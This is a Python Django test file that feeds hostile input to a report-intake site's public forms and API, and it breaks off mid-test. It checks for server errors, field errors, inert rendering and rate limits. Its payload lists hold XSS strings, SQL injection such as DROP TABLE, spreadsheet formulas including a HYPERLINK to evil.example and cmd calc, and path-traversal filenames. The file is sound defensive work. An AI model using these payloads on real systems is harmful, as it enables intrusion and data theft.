"""Hostile input (issue 9): a corpus sent to every public form and public API endpoint.

/lapor/ (the report form), /cek/ (the follow-up by receipt code, with a reply and an
attachment), POST /api/v1/public/reports, GET /api/v1/public/reports/{code}, the
language switch /bahasa/ and the login form /masuk/ receive script and markup
injection, SQL metacharacters, spreadsheet formulas, megabyte text fields, NUL bytes
and other control characters, invalid UTF-8 (raw in the body and inside JSON),
right-to-left overrides, oversized and malformed multipart bodies, wrong content
types and repeated fields. Expected:

- never a server error: every answer below 500 (the client is built with
  raise_request_exception=False, so a crash shows up as a 500 here);
- a clear answer where input is refused: 400 with the field's error on the forms and
  in the API's JSON, 400 for an oversized body (Django answers 400, not 413, when a
  body exceeds DATA_UPLOAD_MAX_MEMORY_SIZE), 403 without a CSRF token, 405 for a
  wrong method;
- what is accepted is stored verbatim, and nothing executable ever reaches a page:
  the staff pages /staf/laporan/ and /staf/laporan/<id>/ are rendered as the intake
  officer `petugas` for everything stored, and every public page that echoes input
  is checked the same way (see InertPage);
- the limits hold: the hourly limits per address answer 429, also for hostile and
  invalid submissions and across the page and the API; the login lockout holds.

A test marked xfail(strict=True) pins a bug that is reported and not fixed yet: it
fails today, and starts failing the suite once the bug is fixed, as a reminder to
remove the marker.
"""

import json
from datetime import timedelta
from html.parser import HTMLParser
from unittest import mock
from urllib.parse import quote, urlencode, urlsplit

from django.conf import settings
from django.core.files.storage import default_storage
from django.test import Client, override_settings
from django.utils import timezone
from django.utils.html import escape

from sigap.audit.models import AuditEvent
from sigap.intake.models import Report, ReportAttachment, ReportMessage
from sigap.intake.selectors import report_get_by_receipt
from sigap.lib.ratelimit import allow, reset_rate_limits
from sigap.test import PASSWORD, BaseTestCase, login_verified

# Every injection carries this mark, so a page can be searched for what came from input.
MARK = "SGPX"

INJECTIONS = [
    f'<script>alert("{MARK}")</script>',
    f'<img src=x onerror=alert("{MARK}")>',
    f"<svg/onload=alert('{MARK}')>",
    f'"><script>alert("{MARK}")</script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f'javascript:alert("{MARK}")',
    f'<a href="javascript:alert(1)">{MARK}</a>',
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"</textarea></dd><script>alert('{MARK}')</script>",
    f'<div hx-get="/keluar/" hx-trigger="load">{MARK}</div>',
    f"<style>body{{background:url(javascript:{MARK})}}</style>",
    f"<!-- {MARK} --><![CDATA[{MARK}]]>",
    f"{{{{ 7*7 }}}}{{% debug %}}${{7*7}} {MARK}",
    f"&lt;script&gt;{MARK}&#x3C;/script&#x3E;",
]
SQL = [
    f"{MARK}' OR '1'='1",
    f"{MARK}'; DROP TABLE intake_report; --",
    f'{MARK}" UNION SELECT password FROM accounts_user --',  # noqa: S608 (a payload, never run)
    f"{MARK}\\'; SELECT pg_sleep(5); --",
    f"{MARK}%' AND 1=1 AND '%'='",
]
FORMULAS = [
    f'=HYPERLINK("http://evil.example/?d="&A1,"{MARK}")',
    f"+cmd|' /C calc'!A0 {MARK}",
    f"-2+3+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"=1+1 {MARK}",
]
UNICODE = [
    f"{MARK} \u202egnp.exe",  # right-to-left override: shows as "exe.png"
    f"\u2066{MARK}\u2069 \u200f\u202b tekan di sini \u202c",  # isolates, marks and embeddings
    f"{MARK}\u200b\u200c\u200d\u2060\ufeff",  # zero-width characters
    f"Z\u0351\u0352\u0353a\u0354\u0355lgo {MARK} 👩\u200d👧",  # combining marks and an emoji sequence
    f"{MARK} ٱلْعَرَبِيَّة עברית",  # right-to-left scripts
]
STORED_VERBATIM = INJECTIONS + SQL + FORMULAS + UNICODE
# Characters that cannot be stored: NUL, other C0/C1 controls, DEL, a noncharacter, private use.
REFUSED_CHARACTERS = ["\x00", "\x1b[31m", "\x07", "\x7f", "\x85", "\ufffe", "\ue000"]
MEGABYTE = "A" * (1024 * 1024)

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
PDF = b"%PDF-1.4\n" + b"0" * 32


def report_fields(**overrides) -> dict:
    """A valid /lapor/ submission: violence, so it lands in petugas's LP-PAR queue."""
    return {
        "reporter_relation": "neighbour",
        "categories": ["fisik"],
        "account": "Anak tetangga sering dipukul.",
        "place": "33.75.01.1003",
        "subject_age_band": "6-12",
        "subject_sex": "L",
        "in_danger": "no",
        "contact_method": "none",
        "consent": "on",
        **overrides,
    }


def api_fields(**overrides) -> dict:
    return {
        "reporter_relation": "self",
        "categories": ["psikis"],
        "account": "Saya diancam setiap hari.",
        "contact_method": "none",
        "consent": True,
        **overrides,
    }


def multipart(parts: list[tuple[bytes, bytes]], boundary: bytes = b"B0UNDARY") -> bytes:
    """A multipart body from (headers, content) pairs, written by hand so it can be wrong."""
    body = b""
    for headers, content in parts:
        body += b"--" + boundary + b"\r\n" + headers + b"\r\n\r\n" + content + b"\r\n"
    return body + b"--" + boundary + b"--\r\n"


def field_part(name: str, value: str | bytes) -> tuple[bytes, bytes]:
    value = value.encode() if isinstance(value, str) else value
    return f'Content-Disposition: form-data; name="{name}"'.encode(), value


def file_part(filename: bytes, content: bytes, content_type: bytes = b"image/png") -> tuple[bytes, bytes]:
    headers = b'Content-Disposition: form-data; name="attachment"; filename="' + filename + b'"'
    return headers + b"\r\nContent-Type: " + content_type, content


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster", "background"}


class InertPage(HTMLParser):
    """Parses a page as a browser would and lists what input could make run.

    A problem is: an element or attribute made from input (the mark in a tag or
    attribute name), the mark inside a script or style element or a comment, the
    mark in an attribute a browser or htmx acts on (event handlers, URLs, style,
    hx-*), any event-handler attribute, any inline script, and any javascript: URL.
    The mark in text, or in an inert attribute such as an input's value, is fine:
    that is input shown as text."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._raw: str | None = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)
        if tag in ("script", "style"):
            self._raw = tag

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw and MARK in data:
            self.problems.append(f"input inside <{self._raw}>: {data[:80]!r}")

    def handle_comment(self, data):
        if MARK in data:
            self.problems.append(f"input inside a comment: {data[:80]!r}")

    def unknown_decl(self, data):
        if MARK in data:
            self.problems.append(f"input inside a declaration: {data[:80]!r}")

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARK.lower() in tag:
            self.problems.append(f"an element made from input: <{tag}>")
        names = dict(attrs)
        if tag == "script" and not names.get("src"):
            self.problems.append("an inline script")
        for name, value in attrs:
            value = value or ""
            squeezed = "".join(value.split()).lower()
            if MARK.lower() in name:
                self.problems.append(f"an attribute made from input: <{tag} {name}>")
            if name.startswith("on"):
                self.problems.append(f"an event handler: <{tag} {name}={value[:60]!r}>")
            if name in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"a script URL: <{tag} {name}={value[:60]!r}>")
            acts = name in URL_ATTRIBUTES or name == "style" or name.startswith(("hx-", "data-hx-"))
            if acts and MARK in value:
                self.problems.append(f"input in an active attribute: <{tag} {name}={value[:60]!r}>")


class HostileInputTestCase(BaseTestCase):
    def setUp(self):
        reset_rate_limits()
        self.anonymous = Client(raise_request_exception=False)

    def send(self, path: str, data=None, *, method: str = "POST", content_type: str | None = None, **extra):
        """One request as anybody; a server error fails the test at once."""
        if content_type is None:
            response = getattr(self.anonymous, method.lower())(path, data, **extra)
        else:
            response = self.anonymous.generic(method, path, data or b"", content_type=content_type, **extra)
        self.assertLess(response.status_code, 500, f"{method} {path} answered {response.status_code}")
        # Refusals carry the same protective headers as any other answer.
        self.assertEqual(response.get("X-Content-Type-Options"), "nosniff", path)
        self.assertEqual(response.get("Cache-Control"), "no-store", path)
        self.assertIn("default-src 'self'", response.get("Content-Security-Policy", ""), path)
        if "html" in response.get("Content-Type", ""):
            self.assertInert(response.content.decode(errors="replace"), f"{method} {path}")
        return response

    def assertInert(self, page: str, where: str) -> None:
        self.assertEqual(InertPage(page).problems, [], f"{where} would run input")

    def staff_pages(self, reports) -> list[str]:
        """The queue and each report's page, as the intake officer sees them."""
        staff = login_verified(Client(raise_request_exception=False), self.petugas)
        pages = []
        for path in ["/staf/laporan/", *[f"/staf/laporan/{report.pk}/" for report in reports]]:
            response = staff.get(path)
            self.assertEqual(response.status_code, 200, path)
            self.assertInert(response.content.decode(), path)
            pages.append(response.content.decode())
        return pages

    def assertShownAsText(self, text: str, page: str) -> None:
        """What was typed is on the page, escaped, and never as raw markup."""
        self.assertIn(escape(text), page)
        if any(char in text for char in "<>\"'&"):
            self.assertNotIn(text, page)

    def assertFieldError(self, response, field: str) -> None:
        self.assertEqual(response.status_code, 400)
        if response.get("Content-Type", "").startswith("application/json"):
            self.assertIn(field, response.json()["errors"])
        else:
            self.assertTrue(response.context["form"].has_error(field), response.context["form"].errors)


class ReportFormTests(HostileInputTestCase):
    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_markup_sql_formulas_and_bidi_text_are_stored_verbatim_and_shown_inert_to_staff(self):
        for text in STORED_VERBATIM:
            response = self.send(
                "/lapor/",
                report_fields(account=text, reporter_name=text[:150], safe_hours=text[:100]),
            )
            self.assertEqual(response.status_code, 200, text)
            report = report_get_by_receipt(response.context["code"])
            self.assertEqual(
                (report.account, report.reporter_name, report.safe_hours),
                (text.strip(), text[:150].strip(), text[:100].strip()),
            )
        reports = list(Report.objects.all())
        self.assertEqual(len(reports), len(STORED_VERBATIM))
        queue, *details = self.staff_pages(reports)
        self.assertNotIn(MARK, queue)  # the queue shows no narrative at all
        for report, page in zip(reports, details, strict=True):
            self.assertShownAsText(report.account, page)
            self.assertShownAsText(report.reporter_name, page)
            self.assertShownAsText(report.safe_hours, page)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_control_characters_are_refused_with_a_field_error_and_what_was_typed_is_kept(self):
        for char in REFUSED_CHARACTERS:
            for field in ("account", "reporter_name", "safe_hours"):
                with self.subTest(field=field, char=repr(char)):
                    response = self.send("/lapor/", report_fields(**{field: f"halo{char}dunia {MARK}"}))
                    self.assertFieldError(response, field)
                    # What was typed comes back in the form, to correct rather than retype.
                    self.assertContains(response, f"dunia {MARK}", status_code=400)
                    self.assertContains(response, '33.75.01.1003" selected', status_code=400)
            response = self.send("/lapor/", report_fields(contact_method="email", contact_value=f"a{char}@example.com"))
            self.assertFieldError(response, "contact_value")
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_a_megabyte_in_any_field_is_refused_with_that_fields_error(self):
        for field, extra in [
            ("account", {}),
            ("reporter_name", {}),
            ("safe_hours", {}),
            ("contact_value", {"contact_method": "email"}),
            ("place", {}),
            ("incident_date", {}),
            ("reporter_relation", {}),
            ("subject_age_band", {}),
            ("categories", {}),
        ]:
            with self.subTest(field=field):
                value = [MEGABYTE] if field == "categories" else MEGABYTE
                self.assertFieldError(self.send("/lapor/", report_fields(**{field: value}, **extra)), field)
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_sql_metacharacters_in_choice_and_date_fields_are_refused_with_a_field_error(self):
        for field in ("place", "incident_date", "reporter_relation", "contact_method", "subject_sex", "in_danger"):
            for text in SQL:
                with self.subTest(field=field, text=text):
                    self.assertFieldError(self.send("/lapor/", report_fields(**{field: text})), field)
        self.assertFieldError(self.send("/lapor/", report_fields(categories=["fisik", SQL[0]])), "categories")
        self.assertFalse(Report.objects.exists())
        self.assertEqual(self.send("/lapor/", report_fields()).status_code, 200)  # and the table is still there
        self.assertEqual(Report.objects.count(), 1)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_invalid_utf8_is_refused_or_replaced_and_never_stored_raw(self):
        valid = urlencode(report_fields(), doseq=True).encode()
        form = "application/x-www-form-urlencoded"
        # Raw bytes that are not UTF-8: Django reads the body as Latin-1, where 0x80 is a
        # control character, which the form refuses.
        raw = self.send("/lapor/", valid + b"&account=\xff\xfe\xed\xa0\x80", content_type=form)
        self.assertFieldError(raw, "account")
        # Percent-escaped bytes that are not UTF-8 become U+FFFD, which is text.
        escaped = self.send("/lapor/", valid + b"&account=%FF%FE%ED%A0%80", content_type=form)
        self.assertEqual(escaped.status_code, 200)
        report = Report.objects.get()
        self.assertEqual(report.account, "\ufffd" * 5)
        self.staff_pages([report])

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_oversized_bodies_are_refused_with_400(self):
        limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
        self.assertEqual(limit, (settings.SIGAP_ATTACHMENT_MAX_MB + 1) * 1024 * 1024)
        big = urlencode(report_fields(account="A" * limit), doseq=True)
        self.assertEqual(self.send("/lapor/", big, content_type="application/x-www-form-urlencoded").status_code, 400)
        body = multipart([field_part("account", b"A" * limit), field_part("consent", "on")])
        self.assertEqual(
            self.send("/lapor/", body, content_type="multipart/form-data; boundary=B0UNDARY").status_code, 400
        )
        too_many = "&".join(f"f{n}=1" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1))
        self.assertEqual(
            self.send("/lapor/", too_many, content_type="application/x-www-form-urlencoded").status_code, 400
        )
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_wrong_content_types_and_malformed_bodies_store_nothing_and_never_fail(self):
        fields = json.dumps(api_fields())
        for content_type, body in [
            ("application/json", fields),
            ("text/plain", urlencode(report_fields(), doseq=True)),
            ("application/xml", f"<report><account>{MARK}</account></report>"),
            ("multipart/form-data", "no boundary"),
            ("multipart/form-data; boundary=", "empty boundary"),
            ("multipart/form-data; boundary=B0UNDARY", "--B0UNDARY\r\nContent-Disposition: form-data; name=acc"),
            ("application/x-www-form-urlencoded; charset=utf-16", urlencode(report_fields(), doseq=True)),
            ("application/x-www-form-urlencoded; charset=no-such-charset", "account=x"),
            ("application/octet-stream", b"\x00\xff" * 100),
        ]:
            with self.subTest(content_type=content_type):
                response = self.send("/lapor/", body, content_type=content_type)
                self.assertIn(response.status_code, (200, 400))
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_repeated_fields_take_the_last_value_and_repeated_categories_count_once(self):
        body = (
            urlencode(report_fields(), doseq=True)
            + "&"
            + urlencode(
                {
                    "account": f"yang terakhir {MARK}",
                    "categories": ["seksual", "fisik", "fisik"],
                    "consent": "on",
                    "reporter_relation": "self",
                },
                doseq=True,
            )
        )
        response = self.send("/lapor/?account=dari-url", body, content_type="application/x-www-form-urlencoded")
        report = report_get_by_receipt(response.context["code"])
        self.assertEqual(report.account, f"yang terakhir {MARK}")
        self.assertEqual(report.reporter_relation, "self")
        self.assertEqual(report.categories, ["fisik", "seksual"])
        self.staff_pages([report])

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=3)
    def test_the_hourly_limit_counts_hostile_submissions_and_is_shared_with_the_api(self):
        self.send("/lapor/", report_fields(account=MEGABYTE))  # refused, but counted
        self.send("/lapor/", report_fields(account=INJECTIONS[0]))
        self.send("/api/v1/public/reports", "[1,", content_type="application/json")
        self.assertEqual(self.send("/lapor/", report_fields()).status_code, 429)
        self.assertEqual(
            self.send("/api/v1/public/reports", json.dumps(api_fields()), content_type="application/json").status_code,
            429,
        )
        # With no proxy trusted, a forged X-Forwarded-For changes nothing.
        self.assertEqual(self.send("/lapor/", report_fields(), HTTP_X_FORWARDED_FOR="203.0.113.9").status_code, 429)
        self.assertEqual(Report.objects.count(), 1)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=2, SIGAP_TRUSTED_PROXIES=1)
    def test_behind_one_proxy_a_forged_forwarded_for_does_not_escape_the_limit(self):
        # The proxy appends the address it saw; what the client wrote stands to its left.
        answers = [
            self.send("/lapor/", report_fields(), HTTP_X_FORWARDED_FOR=f"198.51.100.{n}, 203.0.113.7").status_code
            for n in range(4)
        ]
        self.assertEqual(answers, [200, 200, 429, 429])

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6, SIGAP_TRUSTED_PROXIES=1)
    def test_a_forwarded_for_entry_that_is_not_an_address_is_not_believed(self):
        # A request that reached Sigap without passing the proxy carries what the client wrote.
        for forged in ("not-an-address", f"<script>{MARK}</script>", "999.1.1.1", "192.0.2.1\x00"):
            response = self.send("/lapor/", report_fields(), HTTP_X_FORWARDED_FOR=forged)
            self.assertEqual(response.status_code, 200, forged)
            event = AuditEvent.objects.filter(target_type="intake.report").latest("id")
            self.assertIn(event.ip, (None, "127.0.0.1"), forged)

    def test_a_multipart_body_in_a_charset_that_is_not_a_text_encoding_is_refused_without_a_server_error(self):
        body = multipart([field_part("code", "AAAA-BBBB-CCCC-DDDD"), field_part("account", MARK)])
        for path in ("/lapor/", "/cek/", "/masuk/", "/bahasa/"):
            for charset in ("rot13", "base64", "hex", "zlib"):
                response = self.anonymous.generic(
                    "POST", path, body, content_type=f"multipart/form-data; boundary=B0UNDARY; charset={charset}"
                )
                self.assertLess(response.status_code, 500, f"{path} with charset={charset}")

    def test_posts_without_a_csrf_token_get_403_whatever_they_carry(self):
        strict = Client(enforce_csrf_checks=True, raise_request_exception=False)
        for path in ("/lapor/", "/cek/", "/masuk/", "/bahasa/"):
            for content_type, body in [
                ("application/x-www-form-urlencoded", urlencode(report_fields(account=INJECTIONS[0]), doseq=True)),
                ("multipart/form-data; boundary=B0UNDARY", multipart([field_part("account", INJECTIONS[1])])),
                ("application/json", json.dumps(api_fields())),
            ]:
                with self.subTest(path=path, content_type=content_type):
                    response = strict.generic("POST", path, body, content_type=content_type)
                    self.assertEqual(response.status_code, 403)
            malformed = strict.generic("POST", path, b"--x", content_type="multipart/form-data")
            self.assertIn(malformed.status_code, (400, 403))
        self.assertFalse(Report.objects.exists())


class RateLimitWindowTests(HostileInputTestCase):
    """The limits are counted in a database table (sigap.lib.models.RateLimitCounter),
    a locked row per address, which every web process shares."""

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=2)
    def test_the_hourly_limit_still_holds_six_minutes_later_and_ends_after_the_hour(self):
        statuses = [self.send("/lapor/", report_fields()).status_code for _ in range(3)]
        self.assertEqual(statuses, [200, 200, 429])
        for minutes, expected in ((6, 429), (59, 429), (61, 200)):
            later = timezone.now() + timedelta(minutes=minutes)
            with self.subTest(minutes=minutes), mock.patch("sigap.lib.ratelimit.timezone.now", return_value=later):
                self.assertEqual(self.send("/lapor/", report_fields()).status_code, expected)

    def test_hits_counted_one_after_another_are_all_counted(self):
        allowed = [allow(scope="race", key="203.0.113.1", limit=2, window_seconds=3600) for _ in range(5)]
        self.assertEqual(allowed, [True, True, False, False, False])


class ReceiptCheckTests(HostileInputTestCase):
    def setUp(self):
        super().setUp()
        self.code = self.send("/lapor/", report_fields()).context["code"]
        self.report = Report.objects.get()

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_hostile_codes_find_nothing_and_are_echoed_inert(self):
        for code in [*INJECTIONS, *SQL, *UNICODE, f"{self.code}\x00", MEGABYTE, "%00", "*", "%", "_" * 16]:
            with self.subTest(code=code[:40]):
                response = self.send("/cek/", {"code": code})
                self.assertIn(response.status_code, (200, 400))
                self.assertFalse(response.context.get("found"))
        self.assertFalse(ReportMessage.objects.exists())

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_hostile_replies_are_stored_verbatim_and_shown_inert_to_staff_and_to_the_reporter(self):
        for text in STORED_VERBATIM:
            response = self.send("/cek/", {"code": self.code, "body": text})
            self.assertTrue(response.context["replied"], text)
        self.assertEqual(
            list(ReportMessage.objects.order_by("id").values_list("body", flat=True)),
            [text.strip() for text in STORED_VERBATIM],
        )
        _queue, detail = self.staff_pages([self.report])
        reporter_view = self.send("/cek/", {"code": self.code}).content.decode()
        for text in STORED_VERBATIM:
            self.assertShownAsText(text.strip(), detail)
            self.assertShownAsText(text.strip(), reporter_view)

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_refused_replies_store_nothing(self):
        for body in [f"halo\x00{MARK}", f"\x1b[2J{MARK}", MEGABYTE, "   "]:
            with self.subTest(body=body[:20]):
                response = self.send("/cek/", {"code": self.code, "body": body})
                self.assertTrue(response.context["reply_form"].has_error("body"))
        self.assertFalse(ReportMessage.objects.exists())

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_attachments_are_judged_by_their_content_and_their_names_are_never_used(self):
        def reply(filename: bytes, content: bytes, content_type: bytes = b"image/png"):
            body = multipart(
                [
                    field_part("code", self.code),
                    field_part("body", "Ini buktinya."),
                    file_part(filename, content, content_type),
                ]
            )
            return self.send("/cek/", body, content_type="multipart/form-data; boundary=B0UNDARY")

        refused = [
            (b"foto.png", f"<html><script>alert('{MARK}')</script>".encode()),
            (b"gambar.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'{MARK}\')"/>'.encode()),
            (b"laporan.csv", f'=HYPERLINK("http://evil.example","{MARK}")'.encode()),
            (b"kosong.png", b""),
        ]
        for filename, content in refused:
            with self.subTest(filename=filename):
                response = reply(filename, content)
                self.assertIn(response.status_code, (200, 400))
                self.assertFalse(ReportAttachment.objects.exists())
        accepted = [
            b"../../../../etc/passwd",
            b"..\\..\\boot.ini",
            b"a\x00b.png",
            f"<img src=x onerror=alert('{MARK}')>.png".encode(),
            "\u202egnp.exe".encode(),
            b"x" * 250 + b".png",
        ]
        for filename in accepted:
            with self.subTest(filename=filename[:40]):
                self.assertTrue(reply(filename, PNG + f"<script>{MARK}</script>".encode()).context["replied"])
        stored = list(ReportAttachment.objects.all())
        self.assertEqual(len(stored), len(accepted))
        for attachment in stored:
            self.assertRegex(attachment.stored_name, r"^intake/[0-9a-f]{32}\.enc$")
            self.assertTrue(default_storage.exists(attachment.stored_name))
            self.assertEqual(attachment.content_type, "image/png")
        (detail,) = self.staff_pages([self.report])[1:]
        self.assertNotIn(MARK, detail)  # file names are never shown
        staff = login_verified(Client(raise_request_exception=False), self.petugas)
        download = staff.get(f"/staf/laporan/{self.report.pk}/lampiran/{stored[0].pk}/")
        self.assertEqual(download["Content-Type"], "image/png")
        self.assertEqual(download["X-Content-Type-Options"], "nosniff")
        self.assertTrue(download["Content-Disposition"].startswith("attachment;"))
        self.assertNotIn(MARK, download["Content-Disposition"])

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6, SIGAP_ATTACHMENT_MAX_MB=1)
    def test_a_file_over_the_limit_is_refused_with_a_message(self):
        body = multipart(
            [
                field_part("code", self.code),
                field_part("body", "besar"),
                file_part(b"a.pdf", PDF + b"0" * (2 * 1024 * 1024)),
            ]
        )
        response = self.send("/cek/", body, content_type="multipart/form-data; boundary=B0UNDARY")
        self.assertTrue(response.context["reply_form"].has_error("attachment"))
        self.assertFalse(ReportAttachment.objects.exists())

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_malformed_multipart_bodies_never_cause_a_server_error(self):
        code = field_part("code", self.code)
        body = field_part("body", f"pesan {MARK}")
        cases = {
            "no boundary": ("multipart/form-data", multipart([code, body])),
            "empty boundary": ("multipart/form-data; boundary=", multipart([code, body])),
            "another boundary": ("multipart/form-data; boundary=OTHER", multipart([code, body])),
            "truncated": ("multipart/form-data; boundary=B0UNDARY", multipart([code, body])[:-30]),
            "no closing line": (
                "multipart/form-data; boundary=B0UNDARY",
                b"--B0UNDARY\r\n" + code[0] + b"\r\n\r\nAAAA",
            ),
            "no disposition": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, (b"Content-Type: text/plain", b"x")]),
            ),
            "no name": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, (b"Content-Disposition: form-data", b"x")]),
            ),
            "garbage headers": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, (b"\xff\xfe: \x00\x01", b"x")]),
            ),
            "huge header": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, (b'Content-Disposition: form-data; name="body"; x="' + b"a" * 100_000 + b'"', b"x")]),
            ),
            "bad base64": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart(
                    [code, body, (file_part(b"a.png", b"!!!")[0] + b"\r\nContent-Transfer-Encoding: base64", b"!!!")]
                ),
            ),
            "encoded file names": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart(
                    [
                        code,
                        body,
                        (b"Content-Disposition: form-data; name=\"attachment\"; filename*=no-such-codec''a.png", PNG),
                        (b"Content-Disposition: form-data; name=\"attachment\"; filename*=rot13''a.png", PNG),
                        (b'Content-Disposition: form-data; name="attachment"; filename*=a.png', PNG),
                        (b"Content-Disposition: form-data; name*=utf-8''attachment; filename=\"a.png\"", PNG),
                    ]
                ),
            ),
            "a part in another charset": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, (body[0] + b"\r\nContent-Type: text/plain; charset=rot13", b"x")]),
            ),
            "a file name that is not UTF-8": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, body, file_part(b"\xff\xfe.png", PNG)]),
            ),
            "invalid utf-8": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, field_part("body", b"\xff\xfe\xed\xa0\x80")]),
            ),
            "too many files": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart(
                    [
                        code,
                        body,
                        *[
                            file_part(f"a{n}.png".encode(), PNG)
                            for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)
                        ],
                    ]
                ),
            ),
            "a megabyte-sized field name": (
                "multipart/form-data; boundary=B0UNDARY",
                multipart([code, field_part("x" * 1024 * 1024, "x")]),
            ),
        }
        for name, (content_type, payload) in cases.items():
            with self.subTest(name):
                self.send("/cek/", payload, content_type=content_type)
        for message in ReportMessage.objects.all():
            message.body.encode("utf-8")

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=3)
    def test_the_lookup_limit_holds_across_the_page_and_the_api(self):
        self.send("/cek/", {"code": INJECTIONS[0]})
        self.send("/cek/", {"code": MEGABYTE})
        self.send(f"/api/v1/public/reports/{quote(SQL[0], safe='')}", method="GET")
        self.assertEqual(self.send("/cek/", {"code": self.code}).status_code, 429)
        self.assertEqual(self.send(f"/api/v1/public/reports/{self.code}", method="GET").status_code, 429)

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_the_follow_up_page_answers_400_when_a_form_has_errors(self):
        self.assertEqual(self.send("/cek/", {"code": f"AAAA\x00{MARK}"}).status_code, 400)
        self.assertEqual(self.send("/cek/", {"code": MEGABYTE}).status_code, 400)
        self.assertEqual(self.send("/cek/", {"code": self.code, "body": MEGABYTE}).status_code, 400)
        self.assertEqual(self.send("/cek/", {"code": self.code, "body": "halo\x00"}).status_code, 400)


class PublicApiTests(HostileInputTestCase):
    def post(self, payload, **extra):
        body = payload if isinstance(payload, (bytes, str)) else json.dumps(payload)
        return self.send(
            "/api/v1/public/reports", body, content_type=extra.pop("content_type", "application/json"), **extra
        )

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_markup_sql_formulas_and_bidi_text_are_stored_verbatim_and_shown_inert_to_staff(self):
        for text in STORED_VERBATIM:
            response = self.post(
                api_fields(categories=["fisik"], account=text, reporter_name=text[:150], safe_hours=text[:100])
            )
            self.assertEqual(response.status_code, 201, text)
            self.assertEqual(response["Content-Type"], "application/json")
            report = report_get_by_receipt(response.json()["receipt_code"])
            self.assertEqual(report.account, text.strip())
        reports = list(Report.objects.all())
        _queue, *details = self.staff_pages(reports)
        for report, page in zip(reports, details, strict=True):
            self.assertShownAsText(report.account, page)
            self.assertShownAsText(report.reporter_name, page)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_bodies_that_are_not_a_json_object_get_400_in_json(self):
        for body in [
            b"\xff\xfe\x00",
            b'{"account": "\xff\xfe"}',  # invalid UTF-8 inside a JSON string
            b'{"account": "\xed\xa0\x80"}',  # an encoded surrogate
            b"{",
            b'{"account": "unterminated',
            b"[1,",
            b"null",
            b"[]",
            b"42",
            b'"a string"',
            b"NaN",
            b"\x00",
            f"<report>{MARK}</report>".encode(),
            urlencode(api_fields()).encode(),
        ]:
            with self.subTest(body=body[:30]):
                response = self.post(body)
                self.assertEqual(response.status_code, 400)
                # {"error": ...} for what is not a JSON object; {"errors": {field: [...]}} for
                # an encoded surrogate, which json.loads lets through and the form refuses.
                self.assertTrue({"error", "errors"} & set(response.json()))
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_the_content_type_header_is_not_what_decides(self):
        # The body is read as JSON whatever the header says: a JSON body files a report,
        # anything else gets 400.
        for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
            with self.subTest(content_type=content_type):
                self.assertEqual(self.post(api_fields(), content_type=content_type).status_code, 201)
        body = multipart([field_part("account", MARK)])
        self.assertEqual(self.post(body, content_type="multipart/form-data; boundary=B0UNDARY").status_code, 400)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_values_of_the_wrong_json_type_get_a_field_error(self):
        cases = [
            ("reporter_relation", ["self"]),
            ("reporter_relation", {"self": True}),
            ("reporter_relation", 1),
